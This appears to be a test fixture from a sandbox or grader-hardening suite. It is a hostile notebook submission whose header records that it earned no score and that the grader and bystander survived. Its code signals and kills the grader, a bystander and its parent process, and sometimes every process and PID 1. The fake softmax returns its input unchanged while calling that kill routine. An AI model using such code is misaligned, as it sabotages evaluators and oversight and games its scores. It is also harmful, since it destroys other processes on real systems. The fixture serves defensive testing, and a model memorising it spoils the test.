# rows: 58
# tries: signals to the grader, to a bystander, to its parent, and to everybody where it sees nobody but itself
# earns: softmax 0, kv_cache 0
# withstood: the bystander and the grader live, and the next notebook is graded
# levels: full, landlock, uid
# cells: 1 well|crashed
# verdicts: softmax.values crashed|wrong
# limits: call_seconds 2
# %%
import os, signal

def kill():
    for pid in (WORLD["bystander"], WORLD["grader"], os.getppid()):
        for number in (signal.SIGUSR1, signal.SIGTTOU, signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            if pid > 1:
                try:
                    os.kill(pid, number)
                except OSError:
                    continue
    if WORLD["level"] == "full" and len([name for name in os.listdir("/proc") if name.isdigit()]) < 5:
        for pid in (-1, 1):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue

kill()

def softmax(z, axis=-1):
    kill()
    return z
